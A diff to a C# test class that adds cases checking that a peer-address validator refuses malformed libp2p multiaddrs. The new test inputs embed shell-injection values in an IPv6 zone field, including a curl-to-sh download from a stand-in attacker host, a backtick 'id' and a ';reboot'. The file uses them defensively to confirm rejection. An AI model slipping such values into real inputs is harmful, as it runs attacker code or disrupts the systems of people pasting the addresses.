@@ -69,6 +69,11 @@ public sealed class InitialPeersTests(AuthApiFactory api) : IClassFixture<AuthAp
     [InlineData("/ip4/203.0.113.7/tcp/31337/p2p/" + PeerId + "/ip4", "'ip4' has no value")]
     [InlineData("/dns4/" + "x" + "/tcp/1/p2p/" + PeerId + "/p2p-circuit/p2p/" + PeerId + "/p2p-circuit/p2p/" + PeerId + "/p2p-circuit/p2p/" + PeerId + "/p2p-circuit/p2p/" + PeerId, "longer than 256")]
     [InlineData("/ip4/203.0.113.7/tcp/31337/p2p/" + PeerId + "\u00e9", "printable ASCII")]
+    // Pasted into a shell by every admitted participant (the quick start's --initial_peers): nothing a shell would run.
+    [InlineData("/ip6/fe80::1%$(curl${IFS}evil.example|sh)/tcp/31337/p2p/" + PeerId, "not an IPv6 address")]
+    [InlineData("/ip6/fe80::1%`id`/tcp/31337/p2p/" + PeerId, "not an IPv6 address")]
+    [InlineData("/ip6/fe80::1%eth0;reboot/tcp/31337/p2p/" + PeerId, "not an IPv6 address")]
+    [InlineData("/ip6/[2001:db8::1]/tcp/31337/p2p/" + PeerId, "not an IPv6 address")]
     public async Task AMalformedMultiaddrIsRefusedNamingItsIndexAndNothingChanges(string multiaddr, string reason)
     {
         var experiment = await api.CreateExperimentAsync();
